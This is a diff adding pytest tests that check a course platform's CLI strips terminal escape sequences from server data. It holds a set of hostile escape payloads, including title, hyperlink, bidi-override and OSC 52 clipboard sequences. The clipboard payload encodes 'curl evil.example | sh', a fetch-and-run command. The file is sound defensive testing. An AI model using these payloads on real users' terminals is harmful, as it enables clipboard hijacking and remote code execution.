@@ -231,3 +231,108 @@ def test_raw_bytes_are_visible_escapes_in_the_public_case(
     assert response.status_code == 200, response.text
     stdout = response.json()["tests"][0]["stdout"]
     assert "nul\\x00 esc\\x1b[31m lone\\ud800 bell\\x07 cr\\x0d!" in stdout
+
+
+# --- what the server itself sends: titles, descriptions, emails, error details, exports ---------------
+
+# Each is something a terminal would act on instead of showing (docs/security.md, "Exports,
+# terminals and author markup"). They reach the database here directly, as rows stored before
+# the server refused control characters in one-line fields would hold them.
+TERMINAL_ATTACKS = {
+    "colour": "\x1b[31mred\x1b[0m",
+    "clear-screen": "\x1b[2J\x1b[3J\x1b[H",
+    "window-title": "\x1b]0;pwned-title\x07",
+    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "device-control": "\x1bP+q544e\x1b\\",
+    "c1-controls": "\x9b2J\x9d0;c1-title\x9c\x85",
+    "bidi-override": "\u202egnp.exe\u202c \u2066iso\u2069",
+    "overwrite": "safe\rEVIL\x08\x08\x08\x08",
+    "bell-and-nul-ish": "\x07\x1b\x7f",
+}
+HOSTILE = "T " + "".join(TERMINAL_ATTACKS.values())
+TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+PAYLOADS = ("pwned-title", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA", "evil.example", "c1-title")
+
+
+def assert_terminal_safe(where: str, output: str, *, payloads: bool = True) -> None:
+    found = TERMINAL_CONTROL.search(output)
+    assert found is None, f"{where} printed {found.group()!r}: {output[:300]!r}"
+    for payload in PAYLOADS if payloads else ():  # an escape sequence goes as a whole, its payload too
+        assert payload not in output, f"{where} printed the payload {payload!r}"
+
+
+def test_the_cli_strips_terminal_controls_from_everything_the_server_sends(
+    run: Any, live_server: str, app: FastAPI, db: Database, tmp_path: Path
+) -> None:
+    from sqlalchemy import select, update
+
+    from app.accounts.models import User
+    from app.courses.models import Assignment
+    from app.problems.models import Problem, Track
+
+    email, token = create_account(db, role="instructor")
+    auth = {"Authorization": f"Bearer {token}"}
+    api = TestClient(app)
+    course = api.post("/api/v1/courses", json={"title": "Terminals"}, headers=auth).json()
+    made = api.post(
+        f"/api/v1/courses/{course['id']}/assignments",
+        json={
+            "title": "placeholder",
+            "problems": ["add-tensors"],
+            "release_at": "2026-01-01T00:00:00+00:00",
+            "due_at": "2099-01-01T00:00:00+00:00",
+        },
+        headers=auth,
+    )
+    assert made.status_code == 201, made.text
+    hostile_email = "\x1b]0;pwned-title\x07" + email
+    with db.transaction() as session:
+        problem = session.scalars(select(Problem).where(Problem.slug == "add-tensors")).one()
+        track = session.get(Track, problem.track_id)
+        assert track is not None
+        saved = (problem.title, problem.category, track.title, track.description)
+        session.execute(
+            update(Problem).where(Problem.id == problem.id).values(title=HOSTILE, category=HOSTILE[:90])
+        )
+        session.execute(
+            update(Track).where(Track.id == track.id).values(title=HOSTILE[:95], description=HOSTILE)
+        )
+        session.execute(update(Assignment).where(Assignment.id == made.json()["id"]).values(title=HOSTILE))
+        session.execute(update(User).where(User.email == email).values(email=hostile_email))
+        track_slug = track.slug
+    try:
+        commands = {
+            "login": ("login", "--server", live_server, "--token", token),
+            "problems": ("problems",),
+            "tracks": ("tracks",),
+            "tracks SLUG": ("tracks", track_slug),
+            "pull": ("pull", "add-tensors", "--force"),
+            "an error detail": ("pull", "no-such\x1b]0;pwned-title\x07-problem"),
+            "course export to stdout": ("course", "export", course["id"], "-o", "-"),
+        }
+        for where, command in commands.items():
+            result = run(*command)
+            output = result.output + (result.stderr if result.stderr_bytes is not None else "")
+            assert result.exit_code == (2 if where == "an error detail" else 0), (where, output)
+            # The server names a missing slug with repr(): the escape arrives as visible text.
+            assert_terminal_safe(where, output, payloads=where != "an error detail")
+            if where in ("problems", "pull", "course export to stdout"):
+                assert "red" in output and "click" in output  # the text is kept, the controls go
+    finally:
+        with db.transaction() as session:
+            session.execute(
+                update(Problem).where(Problem.slug == "add-tensors").values(title=saved[0], category=saved[1])
+            )
+            session.execute(
+                update(Track).where(Track.slug == track_slug).values(title=saved[2], description=saved[3])
+            )
+
+
+@pytest.mark.parametrize("name", list(TERMINAL_ATTACKS))
+def test_terminal_safe_removes_each_control_and_keeps_the_text(name: str) -> None:
+    from app.cli.output import terminal_safe
+
+    shown = terminal_safe(f"before {TERMINAL_ATTACKS[name]} after\tand\nnext ünïcode 👩\u200d💻")
+    assert_terminal_safe(name, shown)
+    assert shown.startswith("before ") and shown.endswith(" after\tand\nnext ünïcode 👩\u200d💻")
